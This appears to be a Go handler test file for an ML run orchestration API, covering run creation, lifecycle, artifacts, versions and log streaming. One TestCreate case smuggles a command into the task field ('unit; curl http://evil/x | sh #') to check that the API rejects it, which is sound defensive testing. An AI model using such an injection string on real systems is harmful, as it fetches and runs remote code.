// Package run 运行领域 - Handler 测试
//
// 使用真实编排器：SQLite 内存账本 + 内存对象存储 + 假下发器 + miniredis 事件总线
package run

import (
	"bufio"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/alicebob/miniredis/v2"
	"github.com/gorilla/websocket"
	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"mlrun-admin/internal/apiserver/auth"
	"mlrun-admin/internal/config"
	"mlrun-admin/internal/dispatch"
	"mlrun-admin/internal/ingest"
	"mlrun-admin/internal/orchestrator"
	"mlrun-admin/internal/shared/eventbus"
	ebredis "mlrun-admin/internal/shared/eventbus/redis"
	"mlrun-admin/internal/shared/keyspace"
	"mlrun-admin/internal/shared/model"
	"mlrun-admin/internal/shared/objstore"
	"mlrun-admin/internal/shared/storage/dbutil"
	"mlrun-admin/internal/shared/storage/repository"
	"mlrun-admin/internal/tail"
)

// ============================================================================
// 测试夹具
// ============================================================================

type fixture struct {
	server  *httptest.Server
	objects *objstore.MemStore
	fake    *dispatch.Fake
	authCfg auth.Config
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	ledger, err := repository.Open(string(dbutil.DriverSQLite), ":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { ledger.Close() })

	mr := miniredis.RunT(t)
	bus := ebredis.NewStoreFromClient(redis.NewClient(&redis.Options{Addr: mr.Addr()}))
	t.Cleanup(func() { bus.Close() })

	objects := objstore.NewMemStore()
	objects.PutString("ada/p1/artifacts/versions/v1/base/train.csv", "x,y\n")
	objects.PutString("ada/p1/artifacts/versions/v3/base/train.csv", "x,y\n")
	fake := dispatch.NewFake()
	logger := zap.NewNop()

	orch := orchestrator.New(orchestrator.Deps{
		Ledger:     ledger,
		Objects:    objects,
		Dispatcher: fake,
		Workers:    dispatch.StaticWorkers{Default: "gpu-1"},
		Ingestor:   ingest.New(ledger, objects, bus, ingest.Options{}, logger),
		Events:     bus,
	}, orchestrator.Config{
		Bucket:        config.DefaultBucket,
		RunnerCommand: config.DefaultRunnerCommand,
		PresignTTL:    time.Minute,
	}, logger)
	tailer := tail.New(ledger, objects, tail.Options{
		LogInterval:     5 * time.Millisecond,
		MetricsInterval: 5 * time.Millisecond,
		MaxBytes:        1 << 20,
	}, logger)

	authCfg := auth.Config{JWTSecret: "test-secret", AccessTokenTTL: time.Minute}
	h := NewHandler(orch, tailer, bus, logger)
	mux := http.NewServeMux()
	h.RegisterRoutes(mux)
	h.RegisterWebSocketRoutes(mux)

	srv := httptest.NewServer(auth.Middleware(authCfg, logger)(mux))
	t.Cleanup(srv.Close)
	return &fixture{server: srv, objects: objects, fake: fake, authCfg: authCfg}
}

func (f *fixture) token(t *testing.T, role model.CallerRole) string {
	t.Helper()
	tok, err := auth.GenerateAccessToken(f.authCfg, "tester", role)
	require.NoError(t, err)
	return tok
}

func (f *fixture) do(t *testing.T, method, path, body string, role model.CallerRole) *http.Response {
	t.Helper()
	req, err := http.NewRequest(method, f.server.URL+path, strings.NewReader(body))
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+f.token(t, role))
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

func decode[T any](t *testing.T, resp *http.Response) T {
	t.Helper()
	var v T
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&v))
	return v
}

func (f *fixture) start(t *testing.T) *model.Run {
	t.Helper()
	resp := f.do(t, http.MethodPost, "/api/v1/runs", `{"owner":"ada","project":"p1","version":"v1","task":"unit"}`, model.RoleScoped)
	require.Equal(t, http.StatusCreated, resp.StatusCode)
	run := decode[model.Run](t, resp)
	return &run
}

func (f *fixture) complete(t *testing.T, run *model.Run) {
	t.Helper()
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{"accuracy":0.92,"success":true}`)
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.LogsFile), "epoch 1\n[run] completed\n")
	f.fake.Complete(run.CommandHandle, dispatch.StatusSucceeded, "ok\n", "")
}

// ============================================================================
// REST
// ============================================================================

func TestCreate(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		name string
		body string
		role model.CallerRole
		code int
		kind string
	}{
		{"ok", `{"owner":"ada","project":"p1","version":"v1","task":"unit"}`, model.RoleScoped, http.StatusCreated, ""},
		{"bad json", `{`, model.RoleScoped, http.StatusBadRequest, ""},
		{"blank version", `{"owner":"ada","project":"p1","version":"","task":"unit"}`, model.RoleAuthority, http.StatusConflict, "version_required"},
		{"blank owner", `{"owner":"","project":"p1","version":"v1","task":"unit"}`, model.RoleScoped, http.StatusBadRequest, "invalid_scope"},
		{"shell in task", `{"owner":"ada","project":"p1","version":"v1","task":"unit; curl http://evil/x | sh #"}`, model.RoleAuthority, http.StatusBadRequest, "invalid_scope"},
		{"scoped new version", `{"owner":"ada","project":"p1","version":"v9","task":"unit"}`, model.RoleScoped, http.StatusNotFound, "not_found"},
		{"authority new version", `{"owner":"ada","project":"p1","version":"v9","task":"unit"}`, model.RoleAuthority, http.StatusCreated, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp := f.do(t, http.MethodPost, "/api/v1/runs", tt.body, tt.role)
			assert.Equal(t, tt.code, resp.StatusCode)
			if tt.kind != "" {
				body := decode[map[string]string](t, resp)
				assert.Equal(t, tt.kind, body["kind"])
			}
		})
	}
}

func TestCreate_DispatchUnavailable(t *testing.T) {
	f := newFixture(t)
	f.fake.StartErr = assert.AnError
	resp := f.do(t, http.MethodPost, "/api/v1/runs", `{"owner":"ada","project":"p1","version":"v1","task":"unit"}`, model.RoleScoped)
	assert.Equal(t, http.StatusServiceUnavailable, resp.StatusCode)
}

func TestCreate_Unauthenticated(t *testing.T) {
	f := newFixture(t)
	resp, err := http.Post(f.server.URL+"/api/v1/runs", "application/json", strings.NewReader(`{}`))
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
}

func TestLifecycle(t *testing.T) {
	f := newFixture(t)
	run := f.start(t)
	assert.Equal(t, model.RunStateRunning, run.State)

	resp := f.do(t, http.MethodPost, "/api/v1/runs/"+run.ID+"/advance", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, model.RunStateRunning, decode[model.Run](t, resp).State)

	f.complete(t, run)
	resp = f.do(t, http.MethodPost, "/api/v1/runs/"+run.ID+"/advance", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	body := decode[map[string]any](t, resp)
	assert.Equal(t, "succeeded", body["state"])
	assert.Equal(t, true, body["is_done"])
	assert.Equal(t, true, body["is_success"])
	assert.Equal(t, false, body["is_running"])

	resp = f.do(t, http.MethodGet, "/api/v1/runs/"+run.ID+"/results", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	results := decode[orchestrator.RunResults](t, resp)
	require.Len(t, results.Metrics, 1)
	assert.Equal(t, "accuracy", results.Metrics[0].Name)

	resp = f.do(t, http.MethodGet, "/api/v1/runs/"+run.ID+"/events", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	events := decode[map[string][]eventbus.RunEvent](t, resp)["events"]
	require.Len(t, events, 3)
	assert.Equal(t, eventbus.EventRunStarted, events[0].Type)
	assert.Equal(t, eventbus.EventRunFinished, events[1].Type)
	assert.Equal(t, eventbus.EventRunMirrored, events[2].Type)

	resp = f.do(t, http.MethodPost, "/api/v1/runs/"+run.ID+"/reingest", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	summary := decode[model.IngestSummary](t, resp)
	assert.True(t, summary.Success)
	assert.Equal(t, 1, summary.MetricRows)

	resp = f.do(t, http.MethodGet, "/api/v1/runs?owner=ada&task=unit", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.EqualValues(t, 1, decode[map[string]any](t, resp)["count"])
}

func TestReingest_RunningConflicts(t *testing.T) {
	f := newFixture(t)
	run := f.start(t)
	resp := f.do(t, http.MethodPost, "/api/v1/runs/"+run.ID+"/reingest", "", model.RoleScoped)
	assert.Equal(t, http.StatusConflict, resp.StatusCode)
}

func TestUnknownRun(t *testing.T) {
	f := newFixture(t)
	for _, path := range []string{
		"/api/v1/runs/run-x",
		"/api/v1/runs/run-x/artifacts",
		"/api/v1/runs/run-x/console",
		"/api/v1/runs/run-x/results",
		"/api/v1/runs/run-x/graphs",
		"/api/v1/runs/run-x/events",
		"/api/v1/runs/run-x/logs/stream",
	} {
		resp := f.do(t, http.MethodGet, path, "", model.RoleScoped)
		assert.Equal(t, http.StatusNotFound, resp.StatusCode, path)
	}
}

func TestListRuns_BadLimit(t *testing.T) {
	f := newFixture(t)
	resp := f.do(t, http.MethodGet, "/api/v1/runs?limit=abc", "", model.RoleScoped)
	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
}

func TestArtifactsAndConsole(t *testing.T) {
	f := newFixture(t)
	run := f.start(t)

	resp := f.do(t, http.MethodGet, "/api/v1/runs/"+run.ID+"/artifacts", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Empty(t, decode[map[string][]model.ArtifactView](t, resp)["artifacts"])

	f.complete(t, run)
	resp = f.do(t, http.MethodGet, "/api/v1/runs/"+run.ID+"/artifacts", "", model.RoleScoped)
	views := decode[map[string][]model.ArtifactView](t, resp)["artifacts"]
	require.Len(t, views, 2)
	assert.Equal(t, "logs.txt", views[0].Name)

	resp = f.do(t, http.MethodGet, "/api/v1/runs/"+run.ID+"/console", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Contains(t, resp.Header.Get("Content-Type"), "text/plain")
	buf := new(strings.Builder)
	_, err := bufio.NewReader(resp.Body).WriteTo(buf)
	require.NoError(t, err)
	assert.Equal(t, "[status] succeeded\n--- stdout ---\nok\n", buf.String())
}

func TestVersions(t *testing.T) {
	f := newFixture(t)
	resp := f.do(t, http.MethodGet, "/api/v1/projects/ada/p1/versions", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, []string{"v1", "v3"}, decode[map[string][]string](t, resp)["versions"])

	resp = f.do(t, http.MethodGet, "/api/v1/projects/ada/p1/versions/latest", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "v3", decode[map[string]string](t, resp)["version"])

	resp = f.do(t, http.MethodGet, "/api/v1/projects/ada/empty/versions/latest", "", model.RoleScoped)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

// ============================================================================
// 流式接口
// ============================================================================

func TestStreamLogs_SSE(t *testing.T) {
	f := newFixture(t)
	run := f.start(t)
	f.complete(t, run)

	resp := f.do(t, http.MethodGet, "/api/v1/runs/"+run.ID+"/logs/stream", "", model.RoleScoped)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "text/event-stream", resp.Header.Get("Content-Type"))

	var types []string
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		if name, ok := strings.CutPrefix(sc.Text(), "event: "); ok {
			types = append(types, name)
		}
	}
	assert.Equal(t, []string{string(tail.EventLog), string(tail.EventDone)}, types)
}

func TestWebSocketLogs(t *testing.T) {
	f := newFixture(t)
	run := f.start(t)

	url := "ws" + strings.TrimPrefix(f.server.URL, "http") + "/ws/runs/" + run.ID + "/logs?access_token=" + f.token(t, model.RoleScoped)
	conn, _, err := websocket.DefaultDialer.Dial(url, nil)
	require.NoError(t, err)
	defer conn.Close()

	var first tail.Event
	require.NoError(t, conn.ReadJSON(&first))
	assert.Equal(t, tail.EventWaiting, first.Type)

	f.complete(t, run)
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	var got []tail.EventType
	for {
		var ev tail.Event
		if err := conn.ReadJSON(&ev); err != nil {
			assert.True(t, websocket.IsCloseError(err, websocket.CloseNormalClosure), err)
			break
		}
		got = append(got, ev.Type)
	}
	assert.Contains(t, got, tail.EventLog)
	assert.Equal(t, tail.EventDone, got[len(got)-1])
}

func TestWebSocketLogs_UnknownRun(t *testing.T) {
	f := newFixture(t)
	url := "ws" + strings.TrimPrefix(f.server.URL, "http") + "/ws/runs/run-x/logs?access_token=" + f.token(t, model.RoleScoped)
	_, resp, err := websocket.DefaultDialer.Dial(url, nil)
	require.Error(t, err)
	require.NotNil(t, resp)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

